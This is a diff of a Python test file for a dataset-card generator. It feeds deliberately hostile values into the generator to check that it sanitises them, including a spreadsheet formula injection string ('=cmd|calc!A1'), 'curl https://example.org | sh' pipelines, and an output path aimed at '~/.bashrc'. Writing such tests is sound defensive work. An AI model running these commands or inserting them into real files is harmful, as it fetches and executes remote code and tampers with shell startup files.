@@ -46,14 +46,14 @@ def test_any_words_stay_words(text):
 @pytest.fixture(scope='module')
 def dataset(tmp_path_factory):
     "A stranger's dataset"
-    rows = [(np.full((4, 4), i, np.uint8), None, {'note': BAD.replace('\n', ' ').replace('\x1b', ''), 'name': '=cmd|calc!A1', '@col': "'-1"}) for i in range(6)]
+    rows = [(np.full((4, 4), i, np.uint8), None, {'note': BAD.replace('\n', ' ').replace('\x1b', ''), 'name': '=cmd|calc!A1', '@col': "'-1", 'age': 1.*i, 'sex': '$\\bad{$'}) for i in range(6)]
     return write_dataset(tmp_path_factory.mktemp('set')/'cleft.zip', rows, about=dict(kind=BAD, licence=BAD, command=BAD, synthetic=True, more={BAD: [BAD]}))
 
 def test_data_cards(tmp_path, dataset):
     page = tmp_path/'card.md'
-    page.write_text('\n'.join(f'<!-- generated: begin {n} -->\n<!-- generated: end {n} -->\n' for n in ('facts', 'pictures')))
+    page.write_text('\n'.join(f'<!-- generated: begin {n} -->\n<!-- generated: end {n} -->\n' for n in ('facts', 'people')))
     filled = cards.card(dataset, page); text = filled.read_text()
-    assert plain(re.sub('<!--.*?-->', '', text)) and 'example.org' in text and cards.stale(filled, dataset) == [] and len(cards.find_blocks(text, page, cards.BLOCKS)) == 2
+    assert plain(re.sub('<!--.*?-->', '', text), ['image']) and 'example.org' in text and re.findall(r'(?<!\\)\]\((.*?)\)', text) == ['card/people.png'] and cards.stale(filled, dataset) == [] and len(cards.find_blocks(text, page, cards.BLOCKS)) == 2
 
 @pytest.mark.parametrize('command', [BAD, 'cleftgan cohort cleft --n 9 --size 16 --seed 0; curl https://example.org | sh', 'curl https://example.org | sh', 'cleftgan cohort cleft --n 9 --size 16 --seed 0 \n```\n# Heading',
                                      'cleftgan train x --set licence=CC0-1.0', 'cleftgan cohort cleft --n 9 --size 16 --seed 0 --out ~/.bashrc', ['cleftgan'], 7])
